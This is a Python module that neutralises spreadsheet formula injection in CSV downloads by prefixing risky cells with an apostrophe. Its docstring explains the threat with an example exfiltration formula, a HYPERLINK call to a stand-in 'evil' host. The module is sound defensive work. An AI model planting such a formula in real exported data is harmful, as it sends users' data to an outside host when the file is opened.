"""CSV that a spreadsheet opens as data: cells that would start a formula are neutralised.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab or carriage return) as a formula: a member name or a column alias such as
``=HYPERLINK("http://evil/?"&A1)`` in a downloaded result would send data elsewhere when the file
is opened. Every text cell and header starting so gets a leading apostrophe (OWASP's advice),
which spreadsheets show as text; numbers are written as numbers. Every CSV ChatBI hands out
goes through :func:`to_csv` (the app's download, ``chatbi query/ask --format csv``).

>>> import pandas as pd
>>> print(to_csv(pd.DataFrame({"city": ["=1+1", "@SUM(A1)", "广州"], "revenue": [-5.0, 1.5, 2.0]})), end="")
city,revenue
'=1+1,-5.0
'@SUM(A1),1.5
广州,2.0
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["to_csv", "neutralize", "FORMULA_STARTS"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(value: Any) -> Any:
    """A text value a spreadsheet would read as a formula, prefixed so it reads as text; others unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(frame: pd.DataFrame, **kwargs: Any) -> str:
    """``frame.to_csv(index=False)`` with formula-like text cells and headers neutralised."""
    safe = frame.copy(deep=False)
    safe.columns = [neutralize(str(c)) for c in frame.columns]
    for i, dtype in enumerate(frame.dtypes):
        if pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype):
            safe.isetitem(i, frame.iloc[:, i].map(neutralize).to_numpy())
    kwargs.setdefault("index", False)
    return str(safe.to_csv(**kwargs))
